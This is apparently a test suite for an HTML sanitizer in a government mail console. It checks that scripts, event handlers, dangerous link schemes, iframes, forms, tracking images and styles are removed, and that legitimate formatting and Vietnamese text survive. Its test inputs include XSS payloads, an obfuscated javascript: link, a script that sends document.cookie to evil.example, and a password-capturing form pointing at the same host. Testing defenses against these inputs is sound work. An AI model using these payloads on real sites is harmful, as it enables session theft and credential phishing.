// The HTML of a received message as the console shows it: nothing runs, nothing loads from elsewhere (a remote
// image would tell the sender when an official read the mail), links open outside the console, inline images stay
// for the reader to point at their parts, and the Vietnamese text is exactly what was sent.
import { sanitizeHtml } from '#functions/mail/sanitize';

describe('what can run is removed', () => {
  it.each([
    ['a script', '<p>Xin chào</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>', '<p>Xin chào</p>'],
    ['a script in SVG', '<svg><script>alert(1)</script></svg><p>a</p>', '<p>a</p>'],
    ['an event handler', '<p onclick="alert(1)" onmouseover="alert(2)">Bấm</p>', '<p>Bấm</p>'],
    ['onerror on an inline image', '<img src="cid:logo" onerror="alert(1)">', '<img src="cid:logo" />'],
    ['a javascript: link', '<a href="javascript:alert(1)">Mở</a>', '<a>Mở</a>'],
    ['an obfuscated javascript: link', '<a href=" JaVa&#x09;ScRiPt:alert(1)">Mở</a>', '<a>Mở</a>'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">Mở</a>', '<a>Mở</a>'],
    ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Mở</a>', '<a>Mở</a>'],
    ['a relative link into the console', '<a href="/v1/nghean/mail/messages">Mở</a>', '<a>Mở</a>'],
    ['an iframe', '<iframe src="https://evil.example/"></iframe><p>a</p>', '<p>a</p>'],
    ['object and embed', '<object data="x.swf"><embed src="x.swf"></object><p>a</p>', '<p>a</p>'],
    ['a form and its inputs', '<form action="https://evil.example/login"><input name="password"><button>Gửi</button></form><p>a</p>', '<p>a</p>'],
    ['meta refresh, base and link', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>', '<p>a</p>'],
  ])('%s', (_, html, expected) => {
    // Act
    const safe = sanitizeHtml(html);
    // Assess
    expect(safe).toBe(expected);
  });
});

describe('nothing loads from elsewhere', () => {
  it('a remote image is replaced by its alt text', () => {
    // Act
    const safe = sanitizeHtml('<p>Trân trọng, <img src="http://tracker/x.png" alt="logo"> Sở Nội vụ</p>');
    // Assess
    expect(safe).toBe('<p>Trân trọng, <span>logo</span> Sở Nội vụ</p>');
    expect(safe).not.toContain('tracker');
  });

  it.each([
    ['https', '<img src="https://tracker.example/p.gif?id=canbo" alt="">'],
    ['protocol-relative', '<img src="//tracker.example/p.gif">'],
    ['relative', '<img src="/v1/nghean/mail/messages/1">'],
    ['data:', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
    ['srcset', '<img src="cid:a" srcset="https://tracker.example/p.gif 2x">'],
  ])('a %s image source is gone', (_, html) => {
    const safe = sanitizeHtml(html);
    expect(safe).not.toMatch(/tracker|data:|\/v1\//);
  });

  it('the alt text of a removed image cannot smuggle markup', () => {
    expect(sanitizeHtml('<img src="http://x/y.png" alt="<script>alert(1)</script>">')).toBe('<span>&lt;script&gt;alert(1)&lt;/script&gt;</span>');
  });

  it('an inline image (cid:) stays for the reader to link to its part', () => {
    expect(sanitizeHtml('<img src="cid:logo@example.vn" alt="Logo" width="120">')).toBe('<img src="cid:logo@example.vn" alt="Logo" width="120" />');
    expect(sanitizeHtml('<img src=" CID:logo@example.vn ">')).toBe('<img src="cid:logo@example.vn" />');
  });

  it('styles go: style elements with their content, style attributes with their url()', () => {
    // Act
    const safe = sanitizeHtml('<style>body { background: url(https://tracker.example/bg.png) }</style>' +
      '<div style="background-image: url(https://tracker.example/bg.png)" class="x" id="app">Nội dung</div>' +
      '<table background="https://tracker.example/t.png" bgcolor="#ffffff"><tr><td align="center">Ô</td></tr></table>');
    // Assess
    expect(safe).toBe('<div>Nội dung</div><table bgcolor="#ffffff"><tr><td align="center">Ô</td></tr></table>');
  });
});

describe('what a message needs is kept', () => {
  it('a web link opens outside the console and says nothing about it', () => {
    // Act
    const safe = sanitizeHtml('<a href="https://dichvucong.gov.vn/p/home?a=1&amp;b=2" target="_self" rel="opener">Cổng Dịch vụ công</a>');
    // Assess
    expect(safe).toBe('<a href="https://dichvucong.gov.vn/p/home?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">Cổng Dịch vụ công</a>');
  });

  it('a mailto: link stays', () => {
    expect(sanitizeHtml('<a href="mailto:vanthu@nghean.gov.vn">Văn thư</a>')).toBe(
      '<a href="mailto:vanthu@nghean.gov.vn" target="_blank" rel="noopener noreferrer nofollow">Văn thư</a>');
  });

  it('formatting, lists and tables stay as written', () => {
    // Prepare
    const html = '<h2>Thông báo</h2><p><b>Kính gửi:</b> <i>các Sở, ban, ngành</i></p><ul><li>Mục 1</li></ul>' +
      '<blockquote>Trích dẫn</blockquote><table border="1"><tr><th colspan="2">Tiêu đề</th></tr></table><font color="red">Khẩn</font>';
    // Act / Assess
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('Vietnamese text survives unchanged, entities decoded to the same letters', () => {
    // Prepare
    const text = 'Ủy ban nhân dân tỉnh Nghệ An — Quyết định số 05/QĐ-UBND về việc “cải cách hành chính” năm 2026; ỹ ữ ự ặ ẫ';
    // Act
    const safe = sanitizeHtml(`<p>${text}</p><p>Tr&#7899;n &agrave; &lt;b&gt;</p>`);
    // Assess
    expect(safe).toBe(`<p>${text}</p><p>Trớn à &lt;b&gt;</p>`);
  });
});
